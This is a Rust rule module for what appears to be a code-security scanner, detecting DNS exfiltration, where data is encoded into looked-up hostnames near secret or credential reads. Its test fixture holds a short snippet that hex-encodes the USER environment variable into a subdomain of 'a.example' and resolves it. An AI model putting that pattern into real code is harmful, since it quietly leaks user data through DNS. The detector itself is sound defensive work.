//! `dns-exfiltration`: Names as a way out.

use crate::report::Severity;
use crate::rules::{Explanation, Hit, Look, Rule, WAY, hit};
use crate::sign::Sign;

pub(super) const RULE: Rule = Rule {
    explanation: Explanation {
        code: "dns-exfiltration",
        techniques: &["A8"],
        means: "Data is encoded into names that are looked up.",
        look: "Which data, and whose zone.",
    },
    needs: &[Sign::Dns],
    judge,
};

fn judge(look: &Look<'_>) -> Option<Hit> {
    let encodes = look.any(&[Sign::Encode, Sign::Alphabet, Sign::Decode]);
    let data = look.any(&[
        Sign::EnvAll,
        Sign::HostFact,
        Sign::HostCommand,
        Sign::CredentialPath,
        Sign::WalletPath,
        Sign::SecretName,
        Sign::FsRead,
        Sign::Env,
    ]);
    if !look.has(Sign::Dns) || !data || !(look.is_close() || look.scope.is_whole) {
        return None;
    }
    let grave = look.any(&[
        Sign::EnvAll,
        Sign::HostFact,
        Sign::HostCommand,
        Sign::CredentialPath,
        Sign::WalletPath,
        Sign::SecretName,
    ]);
    let severity = match () {
        () if look.is_build() => Severity::High,
        () if encodes && grave => Severity::Medium,
        () if grave && look.is_close() => Severity::Medium,
        () => Severity::Low,
    };
    hit(
        severity,
        &[Sign::Dns],
        WAY,
        format!("{} looks up names where it has secrets or facts about the machine", look.where_it_runs()),
    )
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::Severity;
    use crate::rules::fixture::{fires, is_quiet};

    #[test]
    fn it_fires() {
        fires(
            &RULE,
            "src/lib.rs",
            r##"use std::net::ToSocketAddrs;
pub fn f() {
    let who = hex::encode(std::env::var("USER").unwrap());
    let _ = format!("{who}.a.example:80").to_socket_addrs();
}"##,
            Severity::Medium,
        );
    }

    #[test]
    fn look_alikes_are_left_alone() {
        is_quiet(
            &RULE,
            "src/lib.rs",
            r##"use std::net::ToSocketAddrs;
pub fn up(h: &str) -> bool { (h, 80).to_socket_addrs().is_ok() }"##,
        );
    }
}
